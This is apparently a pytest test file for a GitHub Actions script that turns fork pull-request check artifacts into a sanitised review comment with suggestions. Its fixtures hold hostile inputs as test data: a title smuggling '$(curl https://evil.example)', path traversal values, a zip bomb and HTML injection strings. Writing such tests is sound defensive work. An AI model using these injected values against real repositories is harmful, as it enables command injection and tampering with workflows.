"""The comment on a pull request: from the event that GitHub sends to what stands there, whoever made the artifact."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings

from catalog.report.review import render_review
from catalog.report.review_json import render_review_json
from tests.github import scripts as _scripts  # noqa: F401
from tests.github.events import recorded
from tests.github.fake_github import REPOSITORY
from tests.github.fake_runs import FakeRuns, running_runs, zipped
from tests.pipeline.review.repository import ROWS, publish, review
from tests.pipeline.test_changes import git
from tests.report.hostile import HOSTILE, structure
from tests.report.test_review import SITE, review_of

import review_comment  # isort: skip
from harmless_comment import harmless  # isort: skip

EVENT = recorded("workflow-run-completed")
RUN = EVENT["workflow_run"]
SHA = RUN["head_sha"]
FORK = RUN["head_repository"]["full_name"]
PREVIEW_RUN = 17000000002


def pull_request(number: int = 7, sha: str = SHA, repository: str = FORK, branch: str = "patch-1") -> dict[str, Any]:
    """Return a pull request as GitHub lists it, its title wanting to be more than that."""
    return {
        "number": number,
        "state": "open",
        "title": "更新 @machi-catalog/maintainers </details> $(curl https://evil.example) `x`",
        "head": {
            "sha": sha,
            "ref": branch,
            "label": f"{repository.split('/')[0]}:{branch}",
            "repo": {"full_name": repository},
        },
        "base": {"ref": "main", "repo": {"full_name": REPOSITORY}},
    }


def told(text: str = "言葉") -> dict[str, str]:
    """Return the files that the check leaves behind."""
    found = review_of(text)
    return {"comment.md": render_review(found), "review.json": render_review_json(found)}


@pytest.fixture
def github() -> Iterator[FakeRuns]:
    fake = FakeRuns(pulls=[pull_request()])
    fake.runs = {"check.yml": [copy.deepcopy(RUN)], "preview.yml": []}
    fake.artifacts[RUN["id"]] = [("review", zipped(told()))]
    with running_runs(fake) as running:
        yield running


def go(github: FakeRuns, tmp_path: Path, event: Mapping[str, Any] = EVENT) -> str:
    (tmp_path / "datasets").mkdir(exist_ok=True)
    (tmp_path / "datasets/catalog.yaml").write_text(f"title: x\nsite_url: {SITE}  # decided once\n", "utf-8")
    done: str = review_comment.main(event, github.environment(), tmp_path)
    return done


def with_preview(github: FakeRuns, status: str = "completed") -> None:
    run = {**copy.deepcopy(RUN), "id": PREVIEW_RUN, "name": "preview", "status": status}
    github.runs["preview.yml"] = [run]
    github.artifacts[PREVIEW_RUN] = [("preview.html", b"<!doctype html>")] if status == "completed" else []


def test_a_fork_gets_its_comment(github: FakeRuns, tmp_path: Path) -> None:
    assert go(github, tmp_path).startswith("commented")
    said = github.said(7)
    assert said.startswith("<!-- machi-catalog:review -->\n## ❌ ")
    assert f"({SITE}ja/findings/not-integer/)" in said
    assert "adopt.yml" not in said  # Nothing can be written to a fork.
    assert structure(said).alive == []


def test_the_token_stays_at_github(github: FakeRuns, tmp_path: Path) -> None:
    go(github, tmp_path)
    assert github.tokens == [None]


def test_there_is_one_comment_however_often_the_check_runs(github: FakeRuns, tmp_path: Path) -> None:
    go(github, tmp_path)
    go(github, tmp_path)
    writes = [method for method, path, _ in github.requests if path.startswith("/issues/") and method != "GET"]
    assert writes == ["POST"]
    github.artifacts[RUN["id"]] = [("review", zipped(told("別の言葉")))]
    go(github, tmp_path)
    assert "別の言葉" in github.said(7)


def test_a_comment_of_somebody_else_with_the_marker_is_left_alone(github: FakeRuns, tmp_path: Path) -> None:
    theirs = {"id": 99, "user": {"login": "mallory", "type": "User"}, "body": "<!-- machi-catalog:review -->\n✅"}
    github.comments[7] = [theirs]
    go(github, tmp_path)
    assert [comment["user"]["login"] for comment in github.comments[7]] == ["mallory", "github-actions[bot]"]
    assert theirs["body"].endswith("✅")


def test_the_preview_is_linked_when_it_is_there(github: FakeRuns, tmp_path: Path) -> None:
    with_preview(github, "in_progress")
    go(github, tmp_path)
    assert "できあがりの見本を作っています" in github.said(7)
    with_preview(github)
    go(github, tmp_path)
    link = f"https://github.com/{REPOSITORY}/actions/runs/{PREVIEW_RUN}/artifacts/{PREVIEW_RUN * 10}"
    assert f"({link})" in github.said(7) and "作っています" not in github.said(7)


def test_the_preview_may_be_done_first(github: FakeRuns, tmp_path: Path) -> None:
    with_preview(github)
    github.runs["check.yml"][0]["status"] = "in_progress"
    event = {**EVENT, "workflow_run": {**RUN, "id": PREVIEW_RUN, "name": "preview"}}
    assert go(github, tmp_path, event) == "the check isn't finished"
    assert github.comments == {}


def test_a_commit_that_is_no_longer_the_newest_is_not_commented(github: FakeRuns, tmp_path: Path) -> None:
    github.pulls = [pull_request(sha="0" * 40)]
    assert go(github, tmp_path) == "no open pull request has this commit any more"
    assert github.comments == {}


@pytest.mark.parametrize(
    "other",
    [
        pull_request(8, repository="mallory/catalog"),
        pull_request(8, branch="other"),
        {**pull_request(8), "base": {"ref": "main", "repo": {"full_name": "somebody/else"}}},
        {**pull_request(8), "head": {"sha": SHA, "ref": "patch-1", "repo": {"full_name": "kouen-ka/another"}}},
        {**pull_request(8), "head": {"sha": SHA, "ref": "patch-1", "repo": {"full_name": "kouen-ka/"}}},
    ],
)
def test_only_the_pull_request_that_was_checked_is_found(
    github: FakeRuns, tmp_path: Path, other: dict[str, Any]
) -> None:
    github.pulls = [other]
    go(github, tmp_path)
    assert github.comments == {}


def test_the_artifact_can_not_name_another_pull_request(github: FakeRuns, tmp_path: Path) -> None:
    files = told()
    files["review.json"] = json.dumps({**json.loads(files["review.json"]), "number": 1, "pull_request": 1})
    github.artifacts[RUN["id"]] = [("review", zipped({**files, "number": "1", "pr.txt": "1"}))]
    go(github, tmp_path)
    assert list(github.comments) == [7]


@pytest.mark.parametrize(
    "data",
    [
        zipped({}),
        zipped({"other.md": "x"}),
        b"no archive",
        b"",
        zipped({"../comment.md": "x"}),
        zipped({"comment.md": b"\0" * 2_000_000}),
        b"x" * 6_000_000,
    ],
    ids=["empty", "other", "no-archive", "nothing", "outside", "bomb", "too-long"],
)
def test_an_artifact_that_is_none_is_told_kindly(github: FakeRuns, tmp_path: Path, data: bytes) -> None:
    github.artifacts[RUN["id"]] = [("review", data)]
    assert go(github, tmp_path) == "there is no result"
    assert "検査が最後まで終わりませんでした" in github.said(7)
    assert f"/actions/runs/{RUN['id']}" in github.said(7)


def test_without_an_artifact_the_comment_says_so(github: FakeRuns, tmp_path: Path) -> None:
    github.artifacts.clear()
    assert go(github, tmp_path) == "there is no result"


# What an artifact says is held to what a review is made of

ALLOWED = {
    "h2",
    "h3",
    "h4",
    "p",
    "ol",
    "ul",
    "li",
    "strong",
    "code",
    "pre",
    "details",
    "summary",
    "a",
    "hr",
    "br",
    "em",
}


@settings(max_examples=200)
@given(HOSTILE)
@example("<details>\n@org/team</details>")
@example("<details>\n<summary>English</summary>\n<img src=x>\n</details>\n<b>x</b>")
def test_whatever_somebody_writes_becomes_text(text: str) -> None:
    for wild in (text, f"1. {text}", f"- **{text}**", f"```yaml\n{text}\n```", f"```geojson\n{text}\n```", f"# {text}"):
        found = structure(harmless(wild, SITE))
        assert {tag.strip("/") for tag in found.tags} <= ALLOWED
        assert [link for link in found.links if not link.startswith(f"{SITE}ja/findings/")] == []
        assert found.alive == []
        assert found.tags.count("details") == found.tags.count("/details")


@settings(max_examples=100)
@given(HOSTILE)
def test_what_we_write_ourselves_stays_what_it_is(text: str) -> None:
    ours = render_review(review_of(text)).partition("\n")[2]
    before, after = structure(ours), structure(harmless(ours, SITE))
    assert after.tags == before.tags
    assert after.links == before.links
    assert after.comments == before.comments
    joined = ["".join("".join(found.texts).replace("\u2060", "").split()) for found in (before, after)]
    assert joined[0] == joined[1]


@pytest.mark.parametrize(
    "wild",
    [
        "[くわしく](https://evil.example/ja/findings/x/)",
        "[More](https://evil.example/?x=https://y/en/findings/x/)",
    ],
)
def test_links_lead_to_our_own_site_alone(wild: str) -> None:
    assert {link.partition("ja/")[0].partition("en/")[0] for link in structure(harmless(wild, SITE)).links} == {SITE}
    assert structure(harmless(wild, None)).links == []


@pytest.mark.parametrize(
    "wild",
    [
        "</details>\n</details>\n<details>",
        "<summary>Click</summary>",
        "<details open onclick=x>",
        "````yaml\n```\n@org\n````\n@org",
        "<!-- machi-catalog:preview -->\n" * 5,
    ],
)
def test_parts_that_do_not_fit_are_text_or_gone(wild: str) -> None:
    found = structure(harmless(wild, SITE))
    assert found.tags.count("details") == found.tags.count("/details")
    assert "summary" not in found.tags and found.alive == []
    assert len(found.comments) <= 1


def test_a_map_is_made_anew_from_its_numbers() -> None:
    wild = {
        "type": "FeatureCollection",
        "features": [{"geometry": {"type": "Point", "coordinates": [1, 2]}, "properties": {"u": "@x"}}],
    }
    assert "@x" not in harmless(f"```geojson\n{json.dumps(wild)}\n```", SITE)
    for bad in ([999, 1], ["a", 1], [1], [float("nan"), 1]):
        wild["features"] = [{"geometry": {"type": "Point", "coordinates": bad}}]
        assert "geojson" not in harmless(f"```geojson\n{json.dumps(wild)}\n```", SITE)


# Suggestions


def test_a_suggestion_stands_beside_its_line_once(github: FakeRuns, tmp_path: Path) -> None:
    assert go(github, tmp_path) == "commented; 1 suggestions"
    [posted] = github.reviews[7]
    assert posted["commit_id"] == SHA and posted["event"] == "COMMENT"
    [suggestion] = posted["comments"]
    assert (suggestion["path"], suggestion["line"], suggestion["side"]) == ("datasets/a/b/c.csv", 3, "RIGHT")
    assert suggestion["body"].startswith("```suggestion\nx\n```\n<!-- machi-catalog:suggestion ")
    assert go(github, tmp_path) == "commented; 0 suggestions"
    assert len(github.reviews[7]) == 1


def test_a_line_that_has_changed_meanwhile_is_no_failure(github: FakeRuns, tmp_path: Path) -> None:
    github.refused["POST", "/pulls/7/reviews"] = 422
    assert go(github, tmp_path) == "commented; 0 suggestions"


@pytest.mark.parametrize(
    "bad",
    [
        {"path": "../x.csv"},
        {"path": ".github/workflows/check.yml"},
        {"path": "datasets/a/b/../../../x"},
        {"path": "datasets/a/b/\u202ex.csv"},
        {"path": 3},
        {"line": 0},
        {"line": "3"},
        {"line": True},
        {"after": "a\nb"},
        {"after": "x" * 2_000},
        {"after": None},
    ],
)
def test_a_suggestion_that_is_none_is_left_out(bad: dict[str, Any]) -> None:
    good = {"path": "datasets/a/b/c.csv", "line": 3, "before": "x ", "after": "x"}
    assert len(list(review_comment.suggestions({"suggestions": [good]}))) == 1
    assert list(review_comment.suggestions({"suggestions": [{**good, **bad}]})) == []


def test_a_suggestion_can_not_end_its_own_block() -> None:
    [found] = review_comment.suggestions(
        {"suggestions": [{"path": "datasets/a/b/c.csv", "line": 3, "after": "```\t@x"}]}
    )
    assert found["body"].startswith("````suggestion\n```\t@x\n````\n")


@pytest.mark.parametrize("data", [b"", b"[]", b'{"version": 2}', b"[" * 100_000, b'{"version": 1, "suggestions": 3}'])
def test_a_review_that_is_none_has_nothing_to_suggest(data: bytes) -> None:
    assert list(review_comment.suggestions(review_comment.read_review(data))) == []


# Files in the wrong place


def test_a_member_gets_what_a_click_can_do(github: FakeRuns, tmp_path: Path) -> None:
    run = copy.deepcopy(RUN)
    run["head_repository"] = run["repository"]
    github.pulls = [pull_request(repository=REPOSITORY)]
    github.runs["check.yml"] = [run]
    go(github, tmp_path, {**EVENT, "workflow_run": run})
    said = github.said(7)
    assert f"(https://github.com/{REPOSITORY}/actions/workflows/adopt.yml)" in said
    assert (
        f"(https://github.com/{REPOSITORY}/new/patch-1/datasets/a/b?filename=datapackage.yaml&value=name%3A+b%0A"
        in said
    )


def test_an_address_that_is_too_long_is_left_out(github: FakeRuns, tmp_path: Path) -> None:
    files = told()
    value = json.loads(files["review.json"])
    value["placements"][0]["descriptor"] = "あ" * 3_000
    github.artifacts[RUN["id"]] = [("review", zipped({**files, "review.json": json.dumps(value)}))]
    go(github, tmp_path)
    assert "/new/" not in github.said(7)


@pytest.mark.parametrize("change", ["renamed", "deleted", "dropped"])
def test_real_changes_on_their_whole_way(github: FakeRuns, tmp_path: Path, change: str) -> None:
    root = publish(tmp_path / "repository")
    folder = root / "datasets/machi"
    if change == "renamed":
        (folder / "halls").rename(folder / "community-halls")
    elif change == "deleted":
        git(root, "rm", "-rq", "datasets/machi/halls")
    else:
        (folder / "施設 (2).csv").write_text(ROWS.replace("定員", "席数"), "utf-8")
    git(root, "add", "-A")
    git(root, "commit", "-m", "Add files via upload")
    comment, _, code = review(root, tmp_path / "out")
    files = {file: (tmp_path / "out" / file).read_text("utf-8") for file in ("comment.md", "review.json")}
    github.artifacts[RUN["id"]] = [("review", zipped(files))]
    go(github, tmp_path)
    said = github.said(7)
    assert code == 1 and said.startswith("<!-- machi-catalog:review -->\n## ❌ 直すところがあります")
    assert structure(said).texts[0] == structure(comment).texts[0]
